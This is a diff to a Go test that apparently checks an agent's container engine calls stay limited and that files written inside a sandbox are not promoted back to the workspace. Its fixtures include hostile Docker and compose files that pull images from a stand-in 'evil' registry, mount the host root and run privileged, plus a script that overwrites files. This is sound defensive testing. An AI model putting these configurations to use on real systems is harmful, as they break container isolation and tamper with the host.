@@ -92,13 +92,15 @@ var engineCalls = regexp.MustCompile(`^(HEAD|GET) /_ping$|^GET /(info|version|co
 // A workspace brings files that mean something to an engine, and each of them
 // is content and nothing else. What the agent asks of the engine is little, the
 // same for every workspace, and nothing that only an engine on this machine can do.
+// A16–A19. What the program writes in its box is not promoted: C22.
 func TestTheEngineIsAskedForBoxesAndNothingElse(t *testing.T) {
 	t.Parallel()
 	engine := record(t)
 	_, dsn := storetest.New(t)
 	dir := t.TempDir()
 	for name, text := range map[string]string{
-		"main.py":       "import pathlib\n\nprint(pathlib.Path(\"Dockerfile\").read_text(), pathlib.Path(\"secret-looking.txt\").read_text())\n",
+		"main.py": "import pathlib\n\nprint(pathlib.Path(\"Dockerfile\").read_text(), pathlib.Path(\"secret-looking.txt\").read_text())\n" +
+			"for name in (\"main.py\", \"evil.py\"):\n    pathlib.Path(name).write_text(\"evil = 1\\n\")\n",
 		"Dockerfile":    "# syntax=registry.invalid/evil\nFROM registry.invalid/evil\nRUN --mount=type=cache,source=/,target=/host touch /host/evil\n",
 		".dockerignore": "*\n", "secret-looking.txt": "still here\n",
 		"compose.yaml": "services:\n  evil:\n    image: registry.invalid/evil\n    privileged: true\n    volumes: [\"/:/host\"]\n",
@@ -122,6 +124,12 @@ func TestTheEngineIsAskedForBoxesAndNothingElse(t *testing.T) {
 		t.Fatalf("%v\n%s%s", err, out, stderr.String())
 	}
 
+	if text, err := os.ReadFile(filepath.Join(dir, "main.py")); err != nil || !strings.HasPrefix(string(text), "import pathlib\n\nprint(1)\n") {
+		t.Errorf("promoted: %s, %v", text, err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "evil.py")); err == nil {
+		t.Error("what the program wrote is promoted")
+	}
 	for call, n := range engine.calls {
 		if !engineCalls.MatchString(call) {
 			t.Errorf("asked %d times: %s", n, call)
